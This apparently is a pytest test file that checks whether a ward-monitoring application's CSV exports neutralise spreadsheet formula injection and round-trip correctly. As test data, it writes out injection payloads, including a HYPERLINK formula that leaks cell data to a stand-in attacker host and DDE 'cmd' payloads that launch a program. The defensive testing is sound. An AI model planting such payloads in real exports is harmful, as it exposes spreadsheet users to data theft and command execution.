"""Every CSV the ward writes is formula-safe (docs/security.md, "Untrusted text and exports"):
a patient id, user name, learner or title a spreadsheet would run is written with a leading
``'`` (and quoted); numbers stay numbers; our own export imports back to the same record."""

from __future__ import annotations

import csv
import io
import itertools
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

import grading
from grading import csvsafe
from monitoring import library, review
from monitoring.scale_review import scale_course, scales_csv
from monitoring.store import PatientIn, WardStore
from monitoring.teaching import Quiz
from monitoring.timeline_export import timeline_csv

REPO = Path(__file__).resolve().parents[2]
T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
INFUSION = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
# a leading =, +, -, @, tab or carriage return; ids are one line of printable text, so the
# tab and CR payloads go where a text may hold them (a learner's name, a case title)
PAYLOAD_IDS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+A1*2", "-2+3+cmd|' /C calc'!A0",
               "@SUM(A1:A9)")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def chart(store: WardStore, pid: str) -> None:
    store.admit({"patient_id": pid, "infusion_time": INFUSION, "weight_kg": 70}, by="drx")
    for hours, temp in ((0, 36.8), (30, 38.6)):
        store.record_assessment(pid, {"time": T0 + timedelta(hours=hours), "temp_c": temp,
                                      "sbp_mmhg": 118, "dbp_mmhg": 70, "spo2_pct": 97,
                                      "o2_device": "room_air", "vasopressors": "none"},
                                by="nina")


@pytest.mark.parametrize("pid", PAYLOAD_IDS)
def test_the_canonical_export_neutralises_the_patient_id_and_reimports_the_same_record(
        store, make_store, pid):
    chart(store, pid)
    exported = store.export_csv()
    rows = cells(exported)
    assert [r[0] for r in rows[1:]] == ["'" + pid] * 2
    assert f'"\'{pid.replace(chr(34), chr(34) * 2)}"' in exported  # and quoted
    fresh = make_store()
    fresh.admit({"patient_id": pid, "infusion_time": INFUSION, "weight_kg": 70}, by="drx")
    assert fresh.import_csv(exported.encode(), by="nina") == 2
    assert fresh.export_csv() == exported
    assert [r["temp_c"] for r in fresh.timeline_rows(pid)] == [36.8, 38.6]


def test_the_export_command_writes_formula_safe_csv(store, store_url):
    chart(store, "@SUM(A1:A9)")
    env = {**os.environ, "DATABASE_URL": store_url, "WARD_TZ": "UTC"}
    done = subprocess.run([sys.executable, "-m", "monitoring", "export"], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert [r[0] for r in cells(done.stdout)[1:]] == ["'@SUM(A1:A9)"] * 2
    assert done.stdout == store.export_csv()


def test_the_timeline_export_neutralises_ids_and_user_names_and_keeps_negative_days(store):
    store.add_user("=cmd|' /C calc'!A0", "nurse")
    pid = PAYLOAD_IDS[0]
    store.admit({"patient_id": pid, "infusion_time": INFUSION}, by="drx")
    store.record_assessment(pid, {"time": T0 - timedelta(days=1), "temp_c": 37.0},
                            by="=cmd|' /C calc'!A0")
    rv = review.patient_review(store, pid)
    rows = cells(timeline_csv(rv))
    header = rows[0]
    (row,) = rows[1:]
    assert row[header.index("Patient")] == "'" + pid  # one quote: not prefixed twice
    assert row[header.index("Day after infusion")] == "-1"  # a number, untouched
    assert row[header.index("Recorded by")] == "'=cmd|' /C calc'!A0"
    scales = cells(scales_csv(rv, scale_course(rv)))
    assert scales[1][0] == "'" + pid


def test_the_quiz_export_neutralises_the_learner_the_title_and_the_case():
    at = datetime(2026, 3, 3, 9, 0, tzinfo=UTC)
    quiz = Quiz(patient_id="@x", steps=[0], when={0: (at, -1)}, learner="\t=1+1",
                title="\r+SUM(1)", started_at=at, finished_at=at)
    rows = list(csv.DictReader(io.StringIO(quiz.csv(), newline="")))
    assert (rows[0]["learner"], rows[0]["case"], rows[0]["case_title"]) == (
        "'\t=1+1", "'@x", "'\r+SUM(1)")
    assert rows[0]["day_post_infusion"] == "-1"
    assert '"\'\t=1+1"' in quiz.csv()


def test_a_case_record_exported_for_the_library_reads_back_with_the_same_id(store):
    pid = PAYLOAD_IDS[1]
    chart(store, pid)
    text = library.record_csv(store, pid)
    assert cells(text)[1][0] == "'" + pid
    assert grading.read_csv(text.encode()).patients == [pid]


@pytest.mark.parametrize("pid", ["P1\tx", "P1\nx", "P1\rx", " P1", "P1 ", "P\u200b1"])
def test_admission_refuses_a_patient_id_with_control_characters_or_edge_spaces(pid):
    with pytest.raises(ValidationError, match="patient id"):
        PatientIn(patient_id=pid)


def test_admission_accepts_an_id_that_only_looks_like_a_formula():
    """Legitimate text is accepted; the exports make it safe."""
    assert PatientIn(patient_id="=A1").patient_id == "=A1"


_ids = itertools.count()
ROUND_TRIP = settings(max_examples=12, deadline=None,
                      suppress_health_check=[HealthCheck.function_scoped_fixture,
                                             HealthCheck.too_slow])
ID_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\"A1,; |!()&")), min_size=1, max_size=10)


@ROUND_TRIP
@given(tail=ID_TEXT)
def test_any_patient_id_survives_export_then_import(store, tail):
    """Round trip through our own files for ids starting with anything a user may type."""
    pid = tail.strip() + f"#{next(_ids)}"  # unique per example, one record for all
    pid = pid if pid[0] != " " else "x" + pid
    chart(store, pid)
    exported = store.export_csv(pid)
    assert all(r[0][:1] not in csvsafe.FORMULA_STARTS for r in cells(exported)[1:])
    back = grading.read_csv(exported.encode())
    assert back.patients == [pid]
    assert back.frame["temp_c"].tolist() == [36.8, 38.6]
